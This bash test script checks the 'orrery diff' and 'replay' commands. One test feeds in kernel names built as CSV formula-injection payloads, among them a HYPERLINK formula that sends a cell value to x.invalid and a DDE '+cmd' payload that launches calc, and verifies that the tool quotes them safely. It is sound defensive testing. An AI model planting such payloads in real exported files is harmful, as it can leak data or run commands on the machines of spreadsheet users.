#!/bin/bash
# CLI tests of `orrery diff` (suite golden), from the source root with $ORRERY set:
#
#   run-diff.sh pairs      two ranks of one job (the sample's, the pyper ranks), two
#                          similar recommender jobs (HTA's recsys traces): JSON checked
#                          by check-diff.py, CSV parsed, text has every table
#   run-diff.sh same       a trace against itself: every delta 0
#   run-diff.sh scaled     a trace against its --scale prediction: the delta is what was
#                          scaled, nothing else moves (but collectives)
#   run-diff.sh usage      usage errors and --help
#   run-diff.sh csv-cells  names shaped like spreadsheet formulas (=, +, -, @, tab, CR
#                          first), with commas, quotes and newlines, and bytes that are
#                          not UTF-8, in diff's CSV and replay's scenario CSV: each such
#                          cell written "'" + the name, numbers as they are, every row
#                          as wide as the header, valid UTF-8 (docs/limits.md)
set -uo pipefail

# shellcheck source=SCRIPTDIR/golden-lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/golden-lib.sh"

shared=${ORR_SHARED_TRACES:-../shared/traces}
tiny=traces/samples/tiny-2rank

check() { # check MODE... on $work/out
	cp "$work/out" "$work/diff.json"
	python3 "$golden/check-diff.py" "$work/diff.json" "$@" || fail "check-diff.py $*"
}

case ${1:-} in
pairs)
	needs "$shared"
	for p in "$tiny/rank-0.trace.json $tiny/rank-1.trace.json" \
		"$shared/kineto/hta-pyper-sampled-rank0.json.gz $shared/kineto/hta-pyper-sampled-rank1.json.gz" \
		"$shared/kineto/hta-recsys-rank3.json.gz $shared/kineto/hta-recsys-gpulag-rank0.json.gz"; do
		# shellcheck disable=SC2086 # two paths
		run diff --format=json $p
		expect_rc 0
		check
		# shellcheck disable=SC2086
		run diff --format=csv $p
		expect_rc 0
		python3 -c 'import csv,sys
rows=list(csv.reader(open(sys.argv[1])))
assert rows[0]==["kind","name","a_ns","b_ns","delta_ns","a_count","b_count"], rows[0]
assert all(len(r)==7 for r in rows), "ragged rows"
assert {r[0] for r in rows[1:]} >= {"total","class","kernel"}' "$work/out" || fail "CSV of $p"
		# shellcheck disable=SC2086
		run diff $p
		expect_rc 0
		expect_in out "GPU time by kernel class"
		expect_in out "by contribution to the change"
	done
	;;
same)
	needs "$shared"
	for t in $tiny "$shared/kineto/hta-recsys-rank3.json.gz"; do
		run diff --format=json "$t" "$t"
		expect_rc 0
		check same
	done
	;;
scaled)
	run diff --predicted --scale 'sm90_xmma_gemm*=2' --format=json $tiny
	expect_rc 0
	check scaled 'sm90_xmma_gemm*' 2
	run diff --predicted --scale '*elementwise*=0.5' --format=json $tiny
	expect_rc 0
	check scaled '*elementwise*' 0.5
	;;
usage)
	run diff --help
	expect_rc 0
	expect_in out "usage: orrery diff"
	run diff $tiny
	expect_rc 2
	expect_in err "two traces"
	run diff --scale 'x=2' $tiny $tiny
	expect_rc 2
	expect_in err "--predicted"
	run diff --predicted $tiny $tiny
	expect_rc 2
	run diff --top 0 $tiny $tiny
	expect_rc 2
	;;
csv-cells)
	command -v python3 >/dev/null || { echo "skipped: no python3" >&2; exit 77; }
	# a trace whose ops and kernels have these names, made here
	# (g.json: the same, its kernels shorter, so that diff's deltas are negative numbers)
	python3 - "$work/f.json" "$work/g.json" <<'PY' || fail "cannot make the traces"
import json, sys
names = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3',
         '@SUM(1,2)', '\t=1+1', '\r=2+2', '-x', 'a,b,"c"\nnext,row', '-1.5', 'plain']
head = [{"ph": "X", "cat": "user_annotation", "name": "ProfilerStep#1", "pid": 1, "tid": 1,
         "ts": 0, "dur": 100000}]
def trace(path, dur):
  ev = list(head)
  for k, n in enumerate(names):
    t = 10 + 1000 * k
    ev += [{"ph": "X", "cat": "cpu_op", "name": n, "pid": 1, "tid": 1, "ts": t, "dur": 500},
           {"ph": "X", "cat": "cuda_runtime", "name": "cudaLaunchKernel", "pid": 1, "tid": 1,
            "ts": t + 1, "dur": 10, "args": {"correlation": k + 1}},
           {"ph": "X", "cat": "kernel", "name": n, "pid": 0, "tid": 7, "ts": t + 20,
            "dur": dur + k, "args": {"correlation": k + 1, "stream": 7, "device": 0}}]
  json.dump({"traceEvents": ev}, open(path, "w"))
trace(sys.argv[1], 200)
trace(sys.argv[2], 100)
PY
	run diff --format=csv "$work/f.json" "$work/g.json"
	expect_rc 0
	cp "$work/out" "$work/diff.csv"
	# scenarios named like formulas, and one whose name is its rule
	printf '+cmd *=2\n@x *=0.5\n' >"$work/scenarios"
	run replay --format=csv --scenario "$work/scenarios" --scale '-1*=3' "$work/f.json"
	expect_rc 0
	cp "$work/out" "$work/replay.csv"
	python3 - "$work/diff.csv" "$work/replay.csv" <<'PY' || fail "CSV cells"
import csv, io, sys
formula = ('=', '+', '-', '@', '\t', '\r')
def number(c):
    try:
        float(c)
        return c.lower() not in ('inf', '-inf', '+inf', 'nan', '-nan', '+nan')
    except ValueError:
        return False
def rows(path):
    text = open(path, encoding='utf-8', newline='').read()
    r = list(csv.reader(io.StringIO(text, newline=''), strict=True))
    assert all(len(x) == len(r[0]) for x in r), f"{path}: ragged rows"
    for x in r:
        for c in x:
            assert not c.startswith(formula) or number(c), f"{path}: a formula cell {c!r}"
    return r
d = rows(sys.argv[1])
assert d[0] == ["kind", "name", "a_ns", "b_ns", "delta_ns", "a_count", "b_count"], d[0]
names = {r[1] for r in d[1:] if r[0] in ("kernel", "op")}
for n in ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3',
          '@SUM(1,2)', '\t=1+1', '\r=2+2', '-x']:
    assert "'" + n in names, f"kernel {n!r} not written as \"'\" + it: {sorted(names)}"
for n in ['a,b,"c"\nnext,row', '-1.5', 'plain']:
    assert n in names, f"kernel {n!r} not as it is: {sorted(names)}"
neg = [r[4] for r in d[1:] if r[0] == "kernel"]
assert neg and all(c.startswith('-') and number(c) for c in neg), f"deltas {neg}"
s = {r[0] for r in rows(sys.argv[2])[1:]}
assert s == {"'+cmd", "'@x", "'-1*=3"}, s
PY
	;;
*)
	echo "usage: $0 pairs|same|scaled|usage|csv-cells" >&2
	exit 2
	;;
esac
exit 0
